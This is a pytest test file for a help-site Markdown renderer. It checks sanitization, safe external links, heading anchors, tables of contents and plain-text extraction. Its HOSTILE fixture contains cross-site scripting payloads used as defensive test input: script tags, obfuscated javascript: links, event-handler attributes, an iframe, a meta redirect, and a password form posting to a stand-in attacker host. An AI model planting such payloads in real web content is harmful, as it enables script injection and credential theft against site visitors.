"""What a reader gets from an article's Markdown: harmless HTML whatever the author typed,
linkable headings with a table of contents, and plain text for search."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from kb.markdown import render, render_uncached


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


HOSTILE = """\
# Totally normal article

Hello <script>alert("inline")</script> world.

<script src="https://evil.example/x.js"></script>

[click me](javascript:alert(1)) and <a href="JaVaScRiPt:alert(2)">shout</a>
and <a href=" java&#x09;script:alert(3)">tabbed</a> and <a href="vbscript:msgbox(4)">vb</a>

<img src=x onerror="alert(5)"> ![pixel](data:image/png;base64,iVBORw0KGgo=)
<img src="data:text/html,<script>alert(6)</script>">

<div onclick="alert(7)" style="position:fixed;top:0">Click anywhere</div>

<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<svg onload="alert(8)"><script>alert(9)</script></svg>
<a href="https://evil.example/" onmouseover="alert(10)" target="_blank" rel="opener">prize</a>
<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<p style="color:red" class="button primary" id="main">styled</p>
<details open ontoggle="alert(11)"><summary>more</summary>hidden</details>
"""


def test_a_hostile_article_renders_harmless() -> None:
    page = parse(render_uncached(HOSTILE).html)

    tags = {tag for tag, _ in page.elements}
    assert not tags & {
        "script", "style", "iframe", "form", "input", "button", "svg", "object", "embed",
        "base", "meta", "link", "div", "details",
    }  # fmt: skip
    for tag, attrs in page.elements:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("style", "target", "srcdoc", "formaction"), (tag, name)
            if name in ("href", "src"):
                scheme = "".join((value or "").split()).lower().split(":", 1)[0]
                assert scheme not in ("javascript", "vbscript", "data"), (tag, name, value)
        if tag == "p":
            assert not {"class", "id"} & set(attrs)
    text = "".join(page.text)
    assert "alert" not in text.replace("javascript:alert(1)", "")  # the Markdown link stays text
    assert "display: none" not in text
    assert "Click anywhere" in text  # harmless text is kept
    assert "styled" in text


def test_external_links_open_safely_and_internal_links_stay_plain() -> None:
    html = render_uncached(
        "[shop](/sv/kb/spara-ditt-paket) [post](https://www.postnord.se/sok?id=1&x=2) "
        "[own](https://help.svar.example/en/) [mail](mailto:help@svar.example) "
        '[relative](//evil.example/a) <a href="/\\evil.example/b">slash</a>',
        internal_hosts=["help.svar.example"],
    ).html
    links = {attrs["href"]: attrs.get("rel") for tag, attrs in parse(html).elements if tag == "a"}

    assert links["https://www.postnord.se/sok?id=1&x=2"].split() == [
        "noopener", "noreferrer", "nofollow",
    ]  # fmt: skip
    assert links["//evil.example/a"] == links["/\\evil.example/b"] == "noopener noreferrer nofollow"
    assert links["/sv/kb/spara-ditt-paket"] is None
    assert links["https://help.svar.example/en/"] is None
    assert links["mailto:help@svar.example"] is None


def test_headings_get_stable_unique_anchors_and_a_table_of_contents() -> None:
    rendered = render_uncached(
        "Intro.\n\n"
        "## Så lång tid tar leveransen\n\ntext\n\n"
        "### Till Åland och Færøerne\n\ntext\n\n"
        "## Så lång tid tar leveransen\n\n"
        "#### Små detaljer\n\n"
        "## Main\n\n"
        "## `øre` & **øl**\n"
    )

    ids = [a["id"] for tag, a in parse(rendered.html).elements if tag in ("h2", "h3", "h4")]
    assert ids == [
        "sa-lang-tid-tar-leveransen",
        "till-aland-och-faeroerne",
        "sa-lang-tid-tar-leveransen-2",
        "sma-detaljer",
        "main-2",  # never the page's own landmark ids
        "ore-ol",
    ]
    assert [(e.level, e.id, e.text) for e in rendered.toc] == [
        (2, "sa-lang-tid-tar-leveransen", "Så lång tid tar leveransen"),
        (3, "till-aland-och-faeroerne", "Till Åland och Færøerne"),
        (2, "sa-lang-tid-tar-leveransen-2", "Så lång tid tar leveransen"),
        (2, "main-2", "Main"),
        (2, "ore-ol", "øre & øl"),
    ]
    # The same text always gets the same ids, so links to sections survive re-rendering.
    assert render_uncached("## Så lång tid tar leveransen").toc[0].id == rendered.toc[0].id


def test_raw_html_cannot_forge_a_heading_id() -> None:
    html = render_uncached('<h2 id="results">fake</h2>\n\n## Real').html
    ids = [a.get("id") for tag, a in parse(html).elements if tag == "h2"]
    assert ids == [None, "real"]


def test_lists_tables_images_and_code_survive() -> None:
    rendered = render_uncached(
        "1. first\n2. second\n\n"
        "| Land | Dagar |\n|:--|--:|\n| Sverige | 1–3 |\n\n"
        '![Paketbox](/static/img/box.png "Box")\n\n'
        "```python\nprint('<b>')\n```\n\n"
        "~~old~~ <kbd>Ctrl</kbd>+<kbd>C</kbd>\n"
    )
    page = parse(rendered.html)
    tags = [tag for tag, _ in page.elements]

    for tag in ("ol", "li", "table", "thead", "tbody", "th", "td", "img", "pre", "code", "s"):
        assert tag in tags, tag
    attrs = dict(page.elements)
    assert attrs["img"]["src"] == "/static/img/box.png"
    assert attrs["img"]["alt"] == "Paketbox"
    cells = [a.get("class") for tag, a in page.elements if tag == "th"]
    assert cells == ["align-left", "align-right"]  # alignment survives without style attributes
    assert attrs["code"]["class"] == "language-python"
    assert "print('<b>')" in "".join(page.text)  # code is shown, not interpreted
    assert tags.count("kbd") == 2


def test_plain_text_for_the_index_has_words_not_markup_or_link_targets() -> None:
    text = render_uncached(
        "## Returer\n\nSkicka **tillbaka** inom [14 dagar](https://example.com/lag).\n\n"
        "| Land | Dagar |\n|--|--|\n| Norge | 2&ndash;4 |\n\n<script>evil()</script>"
    ).text

    assert text.splitlines() == [
        "Returer",
        "Skicka tillbaka inom 14 dagar.",
        "Land Dagar",
        "Norge 2–4",
    ]


@pytest.mark.parametrize("internal", [(), ("svar.example",)])
def test_rendering_is_cached_per_content(internal) -> None:
    source = "## Cached\n\nOnce per edit."
    first = render(source, internal_hosts=internal)
    assert render(source, internal_hosts=internal) is first
    assert render(source + " Edited.", internal_hosts=internal) is not first
